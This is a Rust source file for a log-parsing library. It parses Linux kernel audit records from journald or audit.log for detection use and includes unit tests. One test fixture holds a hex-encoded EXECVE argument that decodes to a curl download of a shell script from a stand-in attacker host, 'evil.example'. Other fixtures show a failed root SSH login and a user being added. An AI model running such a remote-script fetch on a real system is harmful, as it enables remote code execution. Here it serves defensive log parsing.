//! Parser of kernel audit records (`type=… msg=audit(<secs>.<ms>:<serial>): key=value …`),
//! as journald carries them (`_TRANSPORT=audit`) and as `audit.log` holds them. Pure: no
//! I/O. Field names are auditd's own, so Sigma's auditd rules apply unchanged.

use std::collections::BTreeMap;

/// A parsed audit record.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AuditRecord {
    /// `SYSCALL`, `EXECVE`, `PATH`, `USER_AUTH`, `ADD_USER`, …
    pub record_type: String,
    /// Event time in milliseconds since the Unix epoch.
    pub time_ms: i64,
    /// The serial shared by every record of one audit event.
    pub serial: u64,
    /// Every `key=value`, hex-encoded strings decoded, nested `msg='…'` flattened.
    pub fields: BTreeMap<String, String>,
}

/// A line that is not an audit record.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum AuditError {
    #[error("no msg=audit(<time>:<serial>) header")]
    NoHeader,
    #[error("bad audit header {0:?}")]
    BadHeader(String),
}

/// Keys whose unquoted values auditd hex-encodes when the string holds spaces, quotes or
/// control characters. `a0`, `a1`, … are strings only in EXECVE records (in SYSCALL
/// records they are the syscall's arguments in hex).
fn is_untrusted_string(record_type: &str, key: &str) -> bool {
    let execve_arg = record_type == "EXECVE"
        && key.starts_with('a')
        && key.len() > 1
        && key[1..]
            .bytes()
            .all(|b| b.is_ascii_digit() || b == b'[' || b == b']');
    execve_arg
        || matches!(
            key,
            "name"
                | "proctitle"
                | "cmd"
                | "comm"
                | "exe"
                | "cwd"
                | "path"
                | "data"
                | "acct"
                | "new"
                | "old"
                | "key"
        )
}

/// Parses one record. `type=` may be missing when journald moved it into a field; pass
/// the type with `known_type` then.
pub fn parse_record(line: &str, known_type: Option<&str>) -> Result<AuditRecord, AuditError> {
    let start = line.find("msg=audit(").ok_or(AuditError::NoHeader)?;
    let header_end = line[start..]
        .find("):")
        .map(|i| start + i)
        .ok_or(AuditError::NoHeader)?;
    let header = &line[start + "msg=audit(".len()..header_end];
    let (time, serial) = header
        .split_once(':')
        .ok_or_else(|| AuditError::BadHeader(header.to_owned()))?;
    let (secs, millis) = time.split_once('.').unwrap_or((time, "0"));
    let bad = || AuditError::BadHeader(header.to_owned());
    let secs: i64 = secs.trim().parse().map_err(|_| bad())?;
    let millis: i64 = millis.trim().parse().map_err(|_| bad())?;
    let serial: u64 = serial.trim().parse().map_err(|_| bad())?;
    let mut fields = BTreeMap::new();
    let mut record_type = known_type.map(str::to_owned);
    for (k, v) in pairs(&line[..start], "") {
        if k == "type" {
            record_type = Some(v);
        } else {
            fields.insert(k, v);
        }
    }
    let ty = record_type.unwrap_or_else(|| "UNKNOWN".to_owned());
    // USER_* records nest their payload: msg='op=PAM:authentication acct="root" …'
    let mut record = parse_body(
        &ty,
        serial,
        secs.saturating_mul(1000).saturating_add(millis),
        &line[header_end + 2..],
    );
    for (k, v) in fields {
        record.fields.entry(k).or_insert(v);
    }
    Ok(record)
}

/// Parses the body of a record whose header journald already took apart: journald keeps
/// the type in `_AUDIT_TYPE_NAME`, the serial in `_AUDIT_ID` and puts `<TYPE> key=value …`
/// in MESSAGE.
pub fn parse_body(record_type: &str, serial: u64, time_ms: i64, body: &str) -> AuditRecord {
    let mut fields = BTreeMap::new();
    for (k, v) in pairs(body, record_type) {
        if k == "msg" {
            for (ik, iv) in pairs(&v, record_type) {
                fields.insert(ik, iv);
            }
        } else {
            fields.insert(k, v);
        }
    }
    AuditRecord {
        record_type: record_type.to_owned(),
        time_ms,
        serial,
        fields,
    }
}

/// Splits `k=v k2="quoted v" k3='nested'` into pairs, decoding hex where auditd uses it.
fn pairs(text: &str, record_type: &str) -> Vec<(String, String)> {
    let mut out = Vec::new();
    let bytes = text.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        while i < bytes.len() && (bytes[i] == b' ' || bytes[i] == b'\x1d' || bytes[i] == b'\n') {
            i += 1;
        }
        let key_start = i;
        while i < bytes.len() && bytes[i] != b'=' && bytes[i] != b' ' {
            i += 1;
        }
        if i >= bytes.len() || bytes[i] != b'=' {
            continue; // a bare word: not a field
        }
        let key = &text[key_start..i];
        i += 1;
        let (value, quoted) = match bytes.get(i) {
            Some(&q @ (b'"' | b'\'')) => {
                let end = text[i + 1..]
                    .find(q as char)
                    .map_or(bytes.len(), |e| i + 1 + e);
                let v = &text[i + 1..end];
                i = (end + 1).min(bytes.len());
                (v.to_owned(), true)
            }
            _ => {
                let end = text[i..].find([' ', '\x1d']).map_or(bytes.len(), |e| i + e);
                let v = &text[i..end];
                i = end;
                (v.to_owned(), false)
            }
        };
        if key.is_empty() {
            continue;
        }
        let value = if !quoted && is_untrusted_string(record_type, key) {
            decode_hex(&value).unwrap_or(value)
        } else {
            value
        };
        out.push((key.to_owned(), value));
    }
    out
}

/// Decodes auditd's hex encoding of a string; `None` when `s` is not such an encoding.
fn decode_hex(s: &str) -> Option<String> {
    if s.len() < 2
        || !s.len().is_multiple_of(2)
        || !s.bytes().all(|b| b.is_ascii_hexdigit())
        || s == "(null)"
    {
        return None;
    }
    let raw: Option<Vec<u8>> = (0..s.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&s[i..i + 2], 16).ok())
        .collect();
    // PROCTITLE separates arguments with NUL bytes.
    let raw: Vec<u8> = raw?
        .into_iter()
        .map(|b| if b == 0 { b' ' } else { b })
        .collect();
    Some(String::from_utf8_lossy(&raw).trim_end().to_owned())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(line: &str, ty: &str, serial: u64, expected: &[(&str, &str)]) {
        let r = parse_record(line, None).unwrap_or_else(|e| panic!("{line}: {e}"));
        assert_eq!(r.record_type, ty, "{line}");
        assert_eq!(r.serial, serial, "{line}");
        for (k, v) in expected {
            assert_eq!(
                r.fields.get(*k).map(String::as_str),
                Some(*v),
                "{line}: field {k} in {:?}",
                r.fields
            );
        }
    }

    #[test]
    fn records_of_the_common_types() {
        check(
            r#"type=SYSCALL msg=audit(1714557600.123:4567): arch=c000003e syscall=59 success=yes exit=0 a0=55d1 ppid=1 pid=4242 auid=1000 uid=0 euid=0 comm="bash" exe="/usr/bin/bash" key="exec""#,
            "SYSCALL",
            4567,
            &[
                ("syscall", "59"),
                ("success", "yes"),
                ("comm", "bash"),
                ("exe", "/usr/bin/bash"),
                ("key", "exec"),
                ("auid", "1000"),
                ("a0", "55d1"),
            ],
        );
        check(
            r#"type=EXECVE msg=audit(1714557600.123:4567): argc=3 a0="curl" a1="-s" a2=687474703A2F2F6576696C2E6578616D706C652F782E7368"#,
            "EXECVE",
            4567,
            &[
                ("argc", "3"),
                ("a0", "curl"),
                ("a1", "-s"),
                ("a2", "http://evil.example/x.sh"),
            ],
        );
        check(
            r#"type=PATH msg=audit(1714557600.123:4567): item=0 name="/usr/bin/curl" inode=131 nametype=NORMAL"#,
            "PATH",
            4567,
            &[("name", "/usr/bin/curl"), ("nametype", "NORMAL")],
        );
        check(
            r#"type=PROCTITLE msg=audit(1714557600.123:4567): proctitle=6375726C002D73"#,
            "PROCTITLE",
            4567,
            &[("proctitle", "curl -s")],
        );
        check(
            r#"type=USER_AUTH msg=audit(1714557601.500:88): pid=777 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication grantors=? acct="root" exe="/usr/sbin/sshd" hostname=203.0.113.9 addr=203.0.113.9 terminal=ssh res=failed'"#,
            "USER_AUTH",
            88,
            &[
                ("op", "PAM:authentication"),
                ("acct", "root"),
                ("exe", "/usr/sbin/sshd"),
                ("addr", "203.0.113.9"),
                ("res", "failed"),
                ("pid", "777"),
            ],
        );
        check(
            r#"type=ADD_USER msg=audit(1714557602.000:90): pid=900 uid=0 auid=1000 ses=3 msg='op=add-user id=1001 exe="/usr/sbin/useradd" hostname=web1 addr=? terminal=pts/0 res=success'"#,
            "ADD_USER",
            90,
            &[
                ("op", "add-user"),
                ("id", "1001"),
                ("exe", "/usr/sbin/useradd"),
                ("res", "success"),
            ],
        );
    }

    #[test]
    fn time_and_journald_supplied_type() {
        let r = parse_record(
            "audit(1.2:3) msg=audit(1714557600.005:7): res=1",
            Some("CONFIG_CHANGE"),
        )
        .expect("parses");
        assert_eq!(
            (r.record_type.as_str(), r.time_ms, r.serial),
            ("CONFIG_CHANGE", 1_714_557_600_005, 7)
        );
    }

    #[test]
    fn garbage_is_an_error_never_a_panic() {
        for line in [
            "",
            "hello",
            "msg=audit(",
            "msg=audit(x:y): a=b",
            "msg=audit(1.2:3)",
            "type=X msg=audit(1.2:): a",
            "msg=audit(1.2:3): =\"",
            "msg=audit(1.2:3): a='unterminated b=c",
        ] {
            let _ = parse_record(line, None);
        }
        assert_eq!(parse_record("hello", None), Err(AuditError::NoHeader));
        assert!(matches!(
            parse_record("msg=audit(x:y): a=b", None),
            Err(AuditError::BadHeader(_))
        ));
    }

    #[test]
    fn hex_only_for_string_keys_and_valid_hex() {
        let r = parse_record(
            "type=SYSCALL msg=audit(1.0:1): exit=1234 name=(null) comm=ZZ a1=ABC",
            None,
        )
        .expect("parses");
        assert_eq!(r.fields["exit"], "1234");
        assert_eq!(r.fields["name"], "(null)");
        assert_eq!(r.fields["comm"], "ZZ");
        assert_eq!(r.fields["a1"], "ABC");
    }
}
